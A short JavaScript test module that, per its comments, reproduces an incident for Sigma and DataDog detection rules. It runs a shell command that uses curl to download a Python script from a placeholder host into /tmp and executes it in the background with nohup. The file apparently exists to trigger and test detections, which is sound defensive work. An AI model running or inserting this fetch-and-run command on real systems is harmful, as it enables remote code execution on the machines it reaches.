// act: a shell fetches a Python program into /tmp with curl and leaves it running
// source: Sigma rules on Axios, DataDog indicators
// rule: create_child_process
// asks: exec /usr/bin/bash
// says: /tmp/ld.py
// proof: mark
// needs: curl
'use strict';
const { shell, mark } = require('./incident');

module.exports = () =>
    shell(
        `curl -s -o /tmp/ld.py -d id=1 'http://sfrclak.example:8000/ld.py?${mark(__filename)}'` +
            ' && nohup python3 /tmp/ld.py',
    );
